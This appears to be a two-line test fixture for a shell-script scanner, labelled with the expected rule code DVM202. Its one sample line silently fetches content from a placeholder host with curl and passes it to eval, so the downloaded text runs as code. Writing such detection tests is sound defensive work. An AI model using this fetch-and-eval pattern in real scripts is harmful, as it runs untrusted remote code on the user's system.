# expect: DVM202
: "${X:=$(curl -s https://x.example.org/a)}"; eval "$X"
